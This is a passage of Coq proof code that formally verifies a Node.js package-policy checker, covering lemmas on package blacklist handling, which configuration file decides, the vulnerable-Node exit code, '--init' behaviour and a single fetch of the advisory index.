     ∧ s_version s' = s_version s) →
  (∃ err,
     readInstalledPackagesFromLockfile satisfies basename irev config dir = Throw err
     ∧ ∀ w, ∃ err',
         processRepo satisfies basename getTime env irev drev config dir w
         = (Throw err', w)
         ∧ (packagePolicyLock w ≠ Some BadPolicyLock → err' = err))
  ∧ (∀ dir' out d,
       readInstalledPackagesFromLockfile satisfies basename irev config dir' = Ok out →
       d ∈ out →
       matchingRange satisfies (c_blacklist config) (d_name d) (d_version d) = None)
  ∧ (∀ dir' w cacheData st w1 problem,
       collectWarnings satisfies basename getTime env irev drev config dir' w
       = (Ok (cacheData, st), w1) →
       problem ∈ warnings st →
       ∃ out d,
         readInstalledPackagesFromLockfile satisfies basename irev config dir' = Ok out
         ∧ d ∈ out
         ∧ raisedFor irev config d problem
         ∧ matchingRange satisfies (c_blacklist config) (d_name d) (d_version d) = None).
Proof.
  intros Hdir Hskip Hbl Hsame. split; [|split].
  - destruct (loop_throws satisfies basename irev config l1 p s l2 [] Hskip Hbl Hsame)
      as [err Hloop].
    { intros Hin. by apply elem_of_nil in Hin. }
    exists err.
    assert (Hread : readInstalledPackagesFromLockfile satisfies basename irev config dir
                    = Throw err).
    { unfold readInstalledPackagesFromLockfile. by rewrite Hdir, Hloop. }
    split; [done|]. intros w. by apply processRepo_extraction_fails.
  - apply readInstalled_not_blacklisted.
  - intros dir' w cacheData st w1 problem Hcollect Hin.
    apply collectWarnings_Ok in Hcollect as (out & cache & _ & Hout & _ & _ & Hall).
    apply checkAll_raised in Hall as (new & Hst & Hnew). simpl in Hst. subst new.
    rewrite Forall_forall in Hnew. destruct (Hnew _ Hin) as (d & Hd & Hraised).
    exists out, d. split; [done|]. split; [done|]. split; [done|].
    by eapply readInstalled_not_blacklisted.
Qed.
End blacklist_run.

(** ** The configuration *)

Lemma assignFirst_first (config : RawConfig) (files : list (option ConfigFile)) :
  assignFirst config files
  = match head (omap id files) with
    | Some BadYaml => Throw "YAMLParseError"
    | Some (Yaml (Some doc)) => Ok (assign config doc)
    | Some (Yaml None) | None => Ok config
    end.
Proof.
  induction files as [|[[|[doc|]]|] files IH]; simpl; try done.
Qed.

(** X20.  [getConfig] reads one file: the first of [possibleFiles] that exists
    decides alone, and the order is the directory's [package-policy.yml],
    its [package-policy.yaml], then the two of the home directory; the
    files after the first are not read and nothing of them is merged in.  A
    key this file does not give keeps its default, and so do all keys when
    the file is an empty document or no file exists; an age given as text
    is what [parseDuration] makes of it. *)
Theorem getConfig_first_file_decides (parseDuration : string → option Z)
    (files : list (option ConfigFile)) :
  getConfig parseDuration files
  = match head (omap id files) with
    | Some BadYaml => Throw "YAMLParseError"
    | Some (Yaml (Some doc)) =>
        Ok (loaded parseDuration (assign (defaultConfig parseDuration) doc))
    | Some (Yaml None) | None => Ok (loaded parseDuration (defaultConfig parseDuration))
    end
  ∧ (∀ doc config,
       head (omap id files) = Some (Yaml (Some doc)) →
       getConfig parseDuration files = Ok config →
       c_minPackageAge (policy config)
       = parsedAge parseDuration
           (default (Millis <$> parseDuration "2d") (doc_minPackageAge doc))
       ∧ c_minWeeklyDownloads (policy config)
         = default (Some 100%Z) (doc_minWeeklyDownloads doc)
       ∧ c_licenses (policy config) = default [] (doc_licenses doc)
       ∧ c_blacklist (policy config) = default ∅ (doc_blacklist doc)
       ∧ c_ignore (policy config) = default ∅ (doc_ignore doc)
       ∧ checkNodeVersionSetting config = default (Some true) (doc_checkNodeVersion doc))
  ∧ (∀ dir h file,
       (rf_policyYml (filesOf h dir) = Some file
        ∨ rf_policyYml (filesOf h dir) = None
          ∧ (rf_policyYaml (filesOf h dir) = Some file
             ∨ rf_policyYaml (filesOf h dir) = None
               ∧ (homeYml h = Some file
                  ∨ homeYml h = None ∧ homeYaml h = Some file))) →
       head (omap id (possibleFiles dir h)) = Some file).
Proof.
  unfold getConfig. rewrite assignFirst_first. split; [|split].
  - by destruct (head (omap id files)) as [[|[doc|]]|].
  - intros doc config ->. by intros [= <-].
  - intros dir h file. unfold possibleFiles.
    intros [->|[-> [->|[-> [->|[-> ->]]]]]]; simpl; try done.
    all: repeat case_match; done.
Qed.

Lemma getConfig_no_exit parseDuration possibleFiles code :
  getConfig parseDuration possibleFiles ≠ Exit code.
Proof.
  unfold getConfig.
  cut (∀ config, assignFirst config possibleFiles ≠ Exit code).
  { intros Hcut. specialize (Hcut (defaultConfig parseDuration)).
    destruct (assignFirst _ _); try done. intros [= <-]. by destruct Hcut. }
  induction possibleFiles as [|[[|[doc|]]|] files IH]; intros config; simpl; try done.
Qed.

(** ** The process *)

Lemma hbind_run {A B : Type} (m : HM A) (k : A → HM B) (h : Host) :
  (m ≫= k) h =
    match m h with
    | (Ok a, h') => k a h'
    | (Throw err, h') => (Throw err, h')
    | (Exit code, h') => (Exit code, h')
    end.
Proof. reflexivity. Qed.

Lemma hret_run {A : Type} (a : A) (h : Host) : mret (M := HM) a h = (Ok a, h).
Proof. reflexivity. Qed.

Section process.
Variable satisfies : string → string → bool.
Variable intersects : string → string → option bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable parseDuration : string → option Z.
Variable opts : Options.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable crev : CveRevision.

Local Abbreviation main' :=
  (main satisfies intersects basename getTime parseDuration opts irev drev crev).
Local Abbreviation checkRepo' :=
  (checkRepo satisfies intersects basename getTime parseDuration opts irev drev crev).
Local Abbreviation checkCurrentNode' := (checkCurrentNode intersects opts crev).
Local Abbreviation checkNodeVersion' := (checkNodeVersion intersects opts crev).
Local Abbreviation getNodeAdvisories' := (getNodeAdvisories opts crev).

(** What [getNodeAdvisories] does, by cases. *)
Lemma getNodeAdvisories_run h :
  match nodeAdvisories h with
  | Some advisories => getNodeAdvisories' h = (Ok advisories, h)
  | None =>
      (∃ advisories,
         getNodeAdvisories' h = (Ok advisories, afterAdvisoryRequest (Some advisories) h))
      ∨ ∃ err, getNodeAdvisories' h = (Throw err, afterAdvisoryRequest None h)
  end.
Proof.
  unfold getNodeAdvisories. destruct (nodeAdvisories h) as [advisories|]; [done|].
  destruct (advisoryFeed opts (requests h)) as [|[|] [advisories|]]; destruct crev;
    try (by right; eexists); by left; eexists.
Qed.

(** The loop of [checkNodeVersion]: it throws when a comparison throws,
    and otherwise finds a problem exactly when an advisory affects the
    version. *)
Lemma advisoryProblems_spec nodeVersion advisories :
  match advisoryProblems intersects nodeVersion advisories with
  | Ok problems =>
      Forall (compared intersects nodeVersion) advisories
      ∧ (problems = [] ↔ existsb (affects intersects nodeVersion) advisories = false)
  | Throw _ => ¬ Forall (compared intersects nodeVersion) advisories
  | Exit _ => False
  end.
Proof.
  induction advisories as [|advisory advisories IH]; simpl; [by split|].
  unfold affects at 1, compared at 1 2.
  destruct (intersects nodeVersion (adv_vulnerable advisory))
    as [isVulnerable|] eqn:Hvulnerable.
  2: { intros [[[? ?] _] _]%Forall_cons. congruence. }
  destruct (intersects nodeVersion (adv_patched advisory))
    as [isPatched|] eqn:Hpatched.
  2: { intros [[_ [? ?]] _]%Forall_cons. congruence. }
  destruct (advisoryProblems intersects nodeVersion advisories) as [problems|err|code];
    [|by intros [_ ?]%Forall_cons|done].
  destruct IH as [Hall Hnone]. split; [by constructor|].
  destruct isVulnerable, isPatched; simpl;
    rewrite ?bool_decide_eq_true_2, ?bool_decide_eq_false_2 by (by intros [? ?] || done);
    simpl; done.
Qed.

Lemma advisoryProblems_no_exit nodeVersion advisories code :
  advisoryProblems intersects nodeVersion advisories ≠ Exit code.
Proof.
  intros Hexit. pose proof (advisoryProblems_spec nodeVersion advisories) as Hspec.
  by rewrite Hexit in Hspec.
Qed.

Lemma checkNodeVersion_run nodeVersion h :
  match nodeAdvisories h with
  | Some advisories =>
      checkNodeVersion' nodeVersion h
      = (advisoryProblems intersects nodeVersion advisories, h)
  | None =>
      (∃ advisories,
         checkNodeVersion' nodeVersion h
         = (advisoryProblems intersects nodeVersion advisories,
            afterAdvisoryRequest (Some advisories) h))
      ∨ ∃ err, checkNodeVersion' nodeVersion h = (Throw err, afterAdvisoryRequest None h)
  end.
Proof.
  unfold checkNodeVersion. rewrite hbind_run.
  pose proof (getNodeAdvisories_run h) as Hget.
  destruct (nodeAdvisories h) as [advisories|].
  - by rewrite Hget.
  - destruct Hget as [[advisories ->]|[err ->]].
    + left. by eexists.
    + right. by eexists.
Qed.

(** X21.  The running Node.js is checked before anything else: with
    [checkNodeVersion] on and the advisory index fetched, [main] ends the
    process with code [2] exactly when some advisory is vulnerable and not
    patched for the running version, and then no directory has been read
    or written, [--init] or not; otherwise it goes on to the directories.
    That is so when [semver.intersects] returns for every range of the
    index; when it throws for one, [main] ends with the exception, before
    any directory. *)
Theorem vulnerable_node_ends_the_process dirs h advisories :
  dirs ≠ [] →
  opt_checkNodeVersion opts = true →
  nodeAdvisories h = None →
  advisoryFeed opts (requests h) = AdvisoryHttp true (Some advisories) →
  (Forall (λ advisory,
             is_Some (intersects (versions_node opts) (adv_vulnerable advisory))
             ∧ is_Some (intersects (versions_node opts) (adv_patched advisory)))
     advisories →
   main' dirs h =
     if existsb (λ advisory,
                   bool_decide
                     (intersects (versions_node opts) (adv_vulnerable advisory) = Some true
                      ∧ intersects (versions_node opts) (adv_patched advisory)
                        = Some false))
          advisories
     then (Exit 2%Z, afterAdvisoryRequest (Some advisories) h)
     else forEach checkRepo' dirs (afterAdvisoryRequest (Some advisories) h))
  ∧ (¬ Forall (λ advisory,
                 is_Some (intersects (versions_node opts) (adv_vulnerable advisory))
                 ∧ is_Some (intersects (versions_node opts) (adv_patched advisory)))
         advisories →
     ∃ err, main' dirs h = (Throw err, afterAdvisoryRequest (Some advisories) h)).
Proof.
  intros Hdirs Hcheck Hmemo Hfeed.
  assert (Hmain : main' dirs h =
    match advisoryProblems intersects (versions_node opts) advisories with
    | Ok [] => forEach checkRepo' dirs (afterAdvisoryRequest (Some advisories) h)
    | Ok (_ :: _) => (Exit 2%Z, afterAdvisoryRequest (Some advisories) h)
    | Throw err => (Throw err, afterAdvisoryRequest (Some advisories) h)
    | Exit code => (Exit code, afterAdvisoryRequest (Some advisories) h)
    end).
  { unfold main. destruct dirs as [|dir dirs]; [done|].
    rewrite hbind_run, hret_run, hbind_run.
    unfold checkCurrentNode. rewrite Hcheck, hbind_run.
    unfold checkNodeVersion. rewrite hbind_run.
    unfold getNodeAdvisories at 1. rewrite Hmemo, Hfeed. unfold resultOf.
    by destruct (advisoryProblems intersects (versions_node opts) advisories)
      as [[|problem problems]|err|code]. }
  rewrite Hmain.
  pose proof (advisoryProblems_spec (versions_node opts) advisories) as Hspec.
  fold (compared intersects (versions_node opts)).
  fold (affects intersects (versions_node opts)).
  destruct (advisoryProblems intersects (versions_node opts) advisories)
    as [problems|err|code]; [|split; [done|by eexists]|done].
  destruct Hspec as [Hall Hnone]. split; [|done]. intros _.
  destruct problems as [|problem problems].
  - by rewrite (proj1 Hnone eq_refl).
  - destruct (existsb _ advisories); [done|]. discriminate (proj2 Hnone eq_refl).
Qed.

(** X22.  [main] reads [package.json] before it calls [processRepo]: in a
    directory without it, or with one that is not JSON, the check ends with
    an exception and nothing has been requested, asked or written, although
    [processRepo] itself never reads that file. *)
Theorem directory_without_package_json_is_not_checked dir h :
  opt_init opts = false →
  rf_packageJson (filesOf h dir) = NoPackageJson
  ∨ rf_packageJson (filesOf h dir) = BadPackageJson →
  ∃ err, checkRepo' dir h = (Throw err, h).
Proof.
  intros Hinit Hjson. unfold checkRepo. rewrite Hinit.
  unfold inspectRepo. rewrite hbind_run. unfold getConfigAt.
  destruct (getConfig parseDuration (possibleFiles dir h)) as [config|err|code] eqn:Hcfg.
  - rewrite hbind_run. unfold readEnginesNode.
    destruct Hjson as [->| ->]; by eexists.
  - by eexists.
  - by destruct (getConfig_no_exit parseDuration (possibleFiles dir h) code).
Qed.

(** What the check of the running Node.js does to the host. *)
Lemma checkCurrentNode_run h :
  ∃ r h1,
    checkCurrentNode' h = (r, h1)
    ∧ (h1 = h ∨ ∃ kept, nodeAdvisories h = None ∧ h1 = afterAdvisoryRequest kept h).
Proof.
  unfold checkCurrentNode. destruct (opt_checkNodeVersion opts).
  2: { eexists _, _. split; [done|]. by left. }
  rewrite hbind_run.
  pose proof (checkNodeVersion_run (versions_node opts) h) as Hrun.
  destruct (nodeAdvisories h) as [advisories|].
  - rewrite Hrun.
    destruct (advisoryProblems intersects (versions_node opts) advisories)
      as [[|problem problems]|err|code]; eexists _, _; (split; [done|]); by left.
  - destruct Hrun as [[advisories ->]|[err ->]].
    + destruct (advisoryProblems intersects (versions_node opts) advisories)
        as [[|problem problems]|err|code];
        eexists _, _; (split; [done|]); right; by eexists.
    + eexists _, _. split; [done|]. right. by eexists.
Qed.

Lemma initRepo_run dir h :
  match repos h !! dir with
  | None => ∃ err, initRepo parseDuration dir h = (Throw err, h)
  | Some rf =>
      match rf_policyYml rf with
      | Some _ => initRepo parseDuration dir h = (Ok tt, h)
      | None =>
          if rf_writable rf then
            initRepo parseDuration dir h
            = (Ok tt,
               withRepos
                 (<[dir := withPolicyYml (Yaml (Some (defaultDoc parseDuration))) rf]>
                    (repos h)) h)
          else ∃ err, initRepo parseDuration dir h = (Throw err, h)
      end
  end.
Proof.
  unfold initRepo. destruct (repos h !! dir) as [rf|]; [|by eexists].
  destruct (rf_policyYml rf); [done|]. destruct (rf_writable rf); [done|by eexists].
Qed.

Lemma forEach_initRepo dirs h r h' :
  forEach (initRepo parseDuration) dirs h = (r, h') →
  h' = withRepos (repos h') h
  ∧ (∀ code, r ≠ Exit code)
  ∧ (∀ dir,
       match repos h !! dir with
       | None => repos h' !! dir = None
       | Some rf =>
           repos h' !! dir = Some rf
           ∨ (rf_policyYml rf = None
              ∧ dir ∈ dirs
              ∧ repos h' !! dir
                = Some (withPolicyYml (Yaml (Some (defaultDoc parseDuration))) rf))
       end)
  ∧ (r = Ok tt →
     ∀ dir, dir ∈ dirs → ∃ rf, repos h' !! dir = Some rf ∧ is_Some (rf_policyYml rf)).
Proof.
  revert h. induction dirs as [|d dirs IH]; intros h; simpl.
  - rewrite hret_run. intros [= <- <-]. split; [by destruct h|]. split; [done|]. split.
    + intros dir. destruct (repos h !! dir); [by left|done].
    + intros _ dir Hin. by apply elem_of_nil in Hin.
  - rewrite hbind_run. pose proof (initRepo_run d h) as Hd.
    destruct (repos h !! d) as [rf|] eqn:Hrf.
    2: { destruct Hd as [err ->]. intros [= <- <-]. split; [by destruct h|].
         split; [done|]. split; [|done].
         intros dir. destruct (repos h !! dir); [by left|done]. }
    destruct (rf_policyYml rf) as [f|] eqn:Hyml;
      [|destruct (rf_writable rf);
        [|destruct Hd as [err ->]; intros [= <- <-]; split; [by destruct h|];
          split; [done|]; split; [|done];
          intros dir; destruct (repos h !! dir); [by left|done]]];
      rewrite Hd.
    + intros Hrest. destruct (IH _ Hrest) as (Hh' & Hne & Hrepos & Hall).
      split; [done|]. split; [done|]. split.
      * intros dir. specialize (Hrepos dir).
        destruct (repos h !! dir) as [rf0|]; [|done].
        destruct Hrepos as [?|(? & ? & ?)]; [by left|right].
        split; [done|]. split; [by right|done].
      * intros Hok dir [->|Hin]%elem_of_cons; [|by apply Hall].
        specialize (Hrepos d). rewrite Hrf in Hrepos.
        destruct Hrepos as [Hsame|(Hnone & _)]; [|congruence].
        exists rf. split; [done|]. by rewrite Hyml.
    + intros Hrest. destruct (IH _ Hrest) as (Hh' & Hne & Hrepos & Hall).
      split; [by rewrite Hh'|]. split; [done|]. split.
      * intros dir. specialize (Hrepos dir). cbn [withRepos repos] in Hrepos.
        destruct (decide (dir = d)) as [->|Hdir].
        -- rewrite Hrf. rewrite lookup_insert_eq in Hrepos. right.
           split; [done|]. split; [left|].
           by destruct Hrepos as [?|(? & _)].
        -- rewrite lookup_insert_ne in Hrepos by done.
           destruct (repos h !! dir) as [rf0|]; [|done].
           destruct Hrepos as [?|(? & ? & ?)]; [by left|right].
           split; [done|]. split; [by right|done].
      * intros Hok dir [->|Hin]%elem_of_cons; [|by apply Hall].
        specialize (Hrepos d). cbn [withRepos repos] in Hrepos.
        rewrite lookup_insert_eq in Hrepos.
        destruct Hrepos as [Hsame|(Hnone & _)]; [|done].
        eexists. split; [done|]. by eexists.
Qed.

(** X23.  With [--init] no directory is checked: [main] creates
    [package-policy.yml] with the defaults where it does not exist and
    changes no other file; an existing one is never overwritten; nothing is
    asked, the caches are not touched and the only request there can be is
    the one for the advisory index.  A directory that had no
    [package-policy.yml] is afterwards configured with the defaults,
    whatever the home directory holds. *)
Theorem init_only_creates_missing_configuration dirs h r h' :
  opt_init opts = true →
  main' dirs h = (r, h') →
  asked h' = asked h
  ∧ cacheRecords h' = cacheRecords h
  ∧ cacheCounts h' = cacheCounts h
  ∧ homeYml h' = homeYml h
  ∧ homeYaml h' = homeYaml h
  ∧ (requests h' = requests h ∨ requests h' = requests h ++ [advisoriesUrl])
  ∧ (∀ dir,
       match repos h !! dir with
       | None => repos h' !! dir = None
       | Some rf =>
           repos h' !! dir = Some rf
           ∨ (rf_policyYml rf = None
              ∧ dir ∈ dirs
              ∧ repos h' !! dir
                = Some (withPolicyYml (Yaml (Some (defaultDoc parseDuration))) rf))
       end)
  ∧ (r = Ok tt →
     ∀ dir, dir ∈ dirs →
       is_Some (rf_policyYml (filesOf h' dir))
       ∧ (rf_policyYml (filesOf h dir) = None →
          getConfig parseDuration (possibleFiles dir h')
          = Ok (loaded parseDuration (defaultConfig parseDuration)))).
Proof.
  intros Hinit. unfold main. rewrite hbind_run.
  destruct dirs as [|d0 dirs0].
  { unfold exitProcess. intros [= <- <-]. repeat split; try done; try by left.
    intros dir. destruct (repos h !! dir); [by left|done]. }
  rewrite hret_run, hbind_run.
  destruct (checkCurrentNode_run h) as (r1 & h1 & -> & Hh1).
  assert (Hframe : asked h1 = asked h ∧ cacheRecords h1 = cacheRecords h
                   ∧ cacheCounts h1 = cacheCounts h ∧ homeYml h1 = homeYml h
                   ∧ homeYaml h1 = homeYaml h ∧ repos h1 = repos h
                   ∧ (requests h1 = requests h
                      ∨ requests h1 = requests h ++ [advisoriesUrl])).
  { destruct Hh1 as [->|(kept & _ & ->)]; repeat split; try done; [by left|by right]. }
  destruct Hframe as (Ha & Hc1 & Hc2 & Hy1 & Hy2 & Hrepos1 & Hreq).
  destruct r1 as [[]|err|code].
  2,3: intros [= <- <-]; repeat split; try done;
    intros dir; rewrite Hrepos1; destruct (repos h !! dir); [by left|done..].
  assert (Hbody : forEach checkRepo' (d0 :: dirs0) h1
                  = forEach (initRepo parseDuration) (d0 :: dirs0) h1).
  { generalize (d0 :: dirs0) h1. clear -Hinit. intros ds.
    induction ds as [|d ds IH]; intros h0; [done|]. simpl.
    rewrite !hbind_run. unfold checkRepo at 1. rewrite Hinit.
    destruct (initRepo parseDuration d h0) as [[[]| |] h2]; [apply IH|done..]. }
  rewrite Hbody. intros Hrun.
  destruct (forEach_initRepo _ _ _ _ Hrun) as (Hh' & Hne & Hrepos & Hall).
  assert (Hsame : asked h' = asked h1 ∧ cacheRecords h' = cacheRecords h1
                  ∧ cacheCounts h' = cacheCounts h1 ∧ homeYml h' = homeYml h1
                  ∧ homeYaml h' = homeYaml h1 ∧ requests h' = requests h1).
  { rewrite Hh'. done. }
  destruct Hsame as (Ha' & Hc1' & Hc2' & Hy1' & Hy2' & Hreq').
  rewrite Ha', Hc1', Hc2', Hy1', Hy2', Hreq'.
  repeat (split; [done|]). split.
  { intros dir. specialize (Hrepos dir). by rewrite Hrepos1 in Hrepos. }
  intros Hok dir Hdir. destruct (Hall Hok dir Hdir) as (rf' & Hrf' & Hyml').
  unfold filesOf. rewrite Hrf'. simpl. split; [done|].
  intros Hnone. specialize (Hrepos dir). rewrite Hrepos1 in Hrepos.
  unfold possibleFiles, filesOf. rewrite Hrf'. simpl.
  destruct (repos h !! dir) as [rf|] eqn:Hrf; [|congruence].
  simpl in Hnone.
  destruct Hrepos as [Hsame|(_ & _ & Hnew)].
  { rewrite Hrf' in Hsame. injection Hsame as ->. rewrite Hnone in Hyml'.
    by destruct Hyml'. }
  rewrite Hrf' in Hnew. injection Hnew as ->. done.
Qed.

Lemma advisoryRequests_app (more1 more2 : list string) :
  advisoryRequests (more1 ++ more2) = advisoryRequests more1 + advisoryRequests more2.
Proof. unfold advisoryRequests. by rewrite filter_app, length_app. Qed.

Lemma advisoryRequests_packages (more : list string) :
  Forall (λ url, ∃ n, True ∧ (url = registryUrl n ∨ url = downloadsUrl n)) more →
  advisoryRequests more = 0.
Proof.
  unfold advisoryRequests. induction 1 as [|url more (n & _ & Hurl) _ IH]; [done|].
  rewrite filter_cons_False; [done|].
  destruct Hurl as [-> | ->]; unfold advisoriesUrl, registryUrl, downloadsUrl;
    rewrite !append_String; by intros [=].
Qed.

Lemma asksIndexOnce_quiet {A : Type} (m : HM A) :
  (∀ h r h', m h = (r, h') →
     requests h' = requests h ∧ nodeAdvisories h' = nodeAdvisories h) →
  asksIndexOnce m.
Proof.
  intros Hm h r h' Hrun. destruct (Hm _ _ _ Hrun) as [Hreq Hmemo].
  exists []. rewrite app_nil_r. split; [done|]. split.
  - unfold advisoryRequests. simpl. lia.
  - rewrite Hmemo. intros [?|[Hone _]]; [done|]. by unfold advisoryRequests in Hone.
Qed.

Lemma asksIndexOnce_bind {A B : Type} (m : HM A) (k : A → HM B) :
  asksIndexOnce m → (∀ a, asksIndexOnce (k a)) → asksIndexOnce (m ≫= k).
Proof.
  intros Hm Hk h r h'. rewrite hbind_run.
  destruct (m h) as [[a|err|code] h1] eqn:Hrun.
  - intros Hrest.
    destruct (Hm _ _ _ Hrun) as (more1 & Hreq1 & Hle1 & Hkeep1).
    destruct (Hk a _ _ _ Hrest) as (more2 & Hreq2 & Hle2 & Hkeep2).
    exists (more1 ++ more2). rewrite Hreq2, Hreq1, app_assoc. split; [done|].
    rewrite advisoryRequests_app.
    destruct (nodeAdvisories h) as [advisories|] eqn:Hmemo.
    + assert (Hs1 : is_Some (nodeAdvisories h1)) by (apply Hkeep1; left; by eexists).
      destruct Hs1 as [advisories1 Hmemo1]. rewrite Hmemo1 in Hle2, Hkeep2.
      split; [lia|]. intros _. apply Hkeep2. left. by eexists.
    + destruct (nodeAdvisories h1) as [advisories1|] eqn:Hmemo1.
      * split; [lia|]. intros _. apply Hkeep2. left. by eexists.
      * assert (Hzero : advisoryRequests more1 = 0).
        { destruct (decide (advisoryRequests more1 = 1)) as [Hone|Hne]; [|lia].
          assert (Hs1 : @is_Some (list Advisory) None).
          { apply Hkeep1. right. split; [done|]. by eexists. }
          by destruct Hs1. }
        split; [lia|]. intros [[? ?]|[Hone Hok]]; [done|].
        apply Hkeep2. right. split; [lia|done].
  - intros [= <- <-].
    destruct (Hm _ _ _ Hrun) as (more1 & Hreq1 & Hle1 & Hkeep1).
    exists more1. split; [done|]. split; [done|].
    intros [?|[Hone (b & Hb)]]; [by apply Hkeep1; left|done].
  - intros [= <- <-].
    destruct (Hm _ _ _ Hrun) as (more1 & Hreq1 & Hle1 & Hkeep1).
    exists more1. split; [done|]. split; [done|].
    intros [?|[Hone (b & Hb)]]; [by apply Hkeep1; left|done].
Qed.

Lemma asksIndexOnce_forEach {A : Type} (body : A → HM unit) (xs : list A) :
  (∀ x, asksIndexOnce (body x)) → asksIndexOnce (forEach body xs).
Proof.
  intros Hbody. induction xs as [|x xs IH]; simpl.
  - by apply asksIndexOnce_quiet; intros h r h' [= <- <-].
  - apply asksIndexOnce_bind; [apply Hbody|]. intros _. apply IH.
Qed.

Lemma asksIndexOnce_getNodeAdvisories : asksIndexOnce getNodeAdvisories'.
Proof.
  intros h r h' Hrun. pose proof (getNodeAdvisories_run h) as Hget.
  destruct (nodeAdvisories h) as [advisories|] eqn:Hmemo.
  - rewrite Hrun in Hget. injection Hget as -> ->.
    exists []. rewrite app_nil_r. split; [done|]. split; [done|].
    intros _. rewrite Hmemo. by eexists.
  - destruct Hget as [[advisories Hget]|[err Hget]]; rewrite Hrun in Hget;
      injection Hget as -> ->; exists [advisoriesUrl]; (split; [done|]);
      (split; [unfold advisoryRequests; by rewrite filter_cons_True|]).
    + intros _. by eexists.
    + intros [[? ?]|[_ [? ?]]]; done.
Qed.

Lemma asksIndexOnce_checkNodeVersion nodeVersion :
  asksIndexOnce (checkNodeVersion' nodeVersion).
Proof.
  unfold checkNodeVersion.
  apply asksIndexOnce_bind; [apply asksIndexOnce_getNodeAdvisories|].
  intros advisories. by apply asksIndexOnce_quiet; intros h r h' [= <- <-].
Qed.

Lemma asksIndexOnce_processRepoWith config dir :
  asksIndexOnce
    (processRepoWith satisfies basename getTime opts irev drev config dir).
Proof.
  intros h r h'. unfold processRepoWith.
  destruct (processRepo satisfies basename getTime (envAt opts (filesOf h dir)) irev drev
              (policy config) (repoDir dir (filesOf h dir)) (worldOf h dir))
    as [r0 w'] eqn:Hrun.
  simpl. intros [= <- <-].
  eapply (processRepo_related satisfies basename getTime _ irev drev _ _
            (asksAbout (λ _, True)) (λ _, True)) in Hrun.
  - destruct Hrun as (more & Hw & Hmore). exists more. cbn [hostOf requests nodeAdvisories].
    split; [done|]. rewrite (advisoryRequests_packages more Hmore).
    split; [lia|]. by intros [?|[? _]].
  - intros n w0 _. exists [registryUrl n]. split; [done|].
    constructor; [|constructor]. exists n. split; [done|by left].
  - intros n w0 _. exists [downloadsUrl n]. split; [done|].
    constructor; [|constructor]. exists n. split; [done|by right].
  - intros _ _ n f w0. exists []. by rewrite app_nil_r.
  - intros _ _ cache w0. exists []. by rewrite app_nil_r.
  - intros w0. exists []. by rewrite app_nil_r.
  - intros doc w0. exists []. by rewrite app_nil_r.
  - done.
Qed.

Lemma asksIndexOnce_checkRepo dir : asksIndexOnce (checkRepo' dir).
Proof.
  unfold checkRepo. destruct (opt_init opts).
  { apply asksIndexOnce_quiet. intros h r h'. unfold initRepo.
    repeat case_match; by intros [= <- <-]. }
  unfold inspectRepo.
  apply asksIndexOnce_bind.
  { apply asksIndexOnce_quiet. intros h r h'. unfold getConfigAt. by intros [= <- <-]. }
  intros config. apply asksIndexOnce_bind.
  { apply asksIndexOnce_quiet. intros h r h'. unfold readEnginesNode.
    repeat case_match; by intros [= <- <-]. }
  intros enginesNode. apply asksIndexOnce_bind.
  { destruct enginesNode as [node|];
      [|by apply asksIndexOnce_quiet; intros h r h' [= <- <-]].
    case_match; [|by apply asksIndexOnce_quiet; intros h r h' [= <- <-]].
    apply asksIndexOnce_bind; [apply asksIndexOnce_checkNodeVersion|].
    intros _. by apply asksIndexOnce_quiet; intros h r h' [= <- <-]. }
  intros _. unfold processRepoAt. apply asksIndexOnce_bind.
  { apply asksIndexOnce_quiet. intros h r h'. unfold getConfigAt. by intros [= <- <-]. }
  intros config'. apply asksIndexOnce_processRepoWith.
Qed.

(** X24.  The advisory index is kept in [nodeAdvisories]: however many
    directories [main] checks, and whether or not the running Node.js is
    checked before, it is requested at most once in the process, and not at
    all once it is there. *)
Theorem advisory_index_is_requested_once dirs h r h' :
  main' dirs h = (r, h') →
  ∃ more,
    requests h' = requests h ++ more
    ∧ advisoryRequests more ≤ 1
    ∧ (is_Some (nodeAdvisories h) → advisoryRequests more = 0).
Proof.
  intros Hrun.
  assert (Honce : asksIndexOnce (main' dirs)).
  { unfold main. apply asksIndexOnce_bind.
    { apply asksIndexOnce_quiet. intros h0 r0 h0'. unfold exitProcess.
      destruct dirs; by intros [= <- <-]. }
    intros _. apply asksIndexOnce_bind.
    { unfold checkCurrentNode. destruct (opt_checkNodeVersion opts);
        [|by apply asksIndexOnce_quiet; intros h0 r0 h0' [= <- <-]].
      apply asksIndexOnce_bind; [apply asksIndexOnce_checkNodeVersion|].
      intros problems. apply asksIndexOnce_quiet. intros h0 r0 h0'. unfold exitProcess.
      destruct problems; by intros [= <- <-]. }
    intros _. apply asksIndexOnce_forEach. apply asksIndexOnce_checkRepo. }
  destruct (Honce _ _ _ Hrun) as (more & Hreq & Hle & _).
  exists more. split; [done|]. split.
  - destruct (nodeAdvisories h); lia.
  - intros [advisories Hmemo]. rewrite Hmemo in Hle. lia.
Qed.

(** X25.  The check of [engines.node] never decides a run: its findings are
    only printed, so with the advisory index at hand the check of a
    directory is [processRepo(dir)] and nothing else, as long as
    [semver.intersects] returns for [engines.node] and every range of the
    index where the check is due.  Neither the comparison nor the request
    for the index is in a [try]: where the check is due (always so when the
    option [checkNodeVersion] is on, whatever the configuration says), a
    range that [semver.intersects] does not take, [engines.node] itself
    when it is no range, or a failed request for an index that is not yet
    there, ends the check of the directory with an exception before
    [processRepo] is called. *)
Theorem engines_check_only_reports dir h enginesNode :
  opt_init opts = false →
  rf_packageJson (filesOf h dir) = PackageJson enginesNode →
  (∀ advisories,
     nodeAdvisories h = Some advisories →
     (∀ node config,
        enginesNode = Some node → node ≠ "" →
        getConfig parseDuration (possibleFiles dir h) = Ok config →
        opt_checkNodeVersion opts = true ∨ checkNodeVersionSetting config ≠ Some false →
        Forall (compared intersects node) advisories) →
     checkRepo' dir h
     = processRepoAt satisfies basename getTime parseDuration opts irev drev dir h)
  ∧ (∀ advisories node config,
       enginesNode = Some node → node ≠ "" →
       nodeAdvisories h = Some advisories →
       getConfig parseDuration (possibleFiles dir h) = Ok config →
       opt_checkNodeVersion opts = true ∨ checkNodeVersionSetting config ≠ Some false →
       ¬ Forall (compared intersects node) advisories →
       ∃ err, checkRepo' dir h = (Throw err, h))
  ∧ (∀ node config,
       enginesNode = Some node → node ≠ "" →
       nodeAdvisories h = None →
       advisoryFeed opts (requests h) = AdvisoryNetworkError →
       getConfig parseDuration (possibleFiles dir h) = Ok config →
       opt_checkNodeVersion opts = true ∨ checkNodeVersionSetting config ≠ Some false →
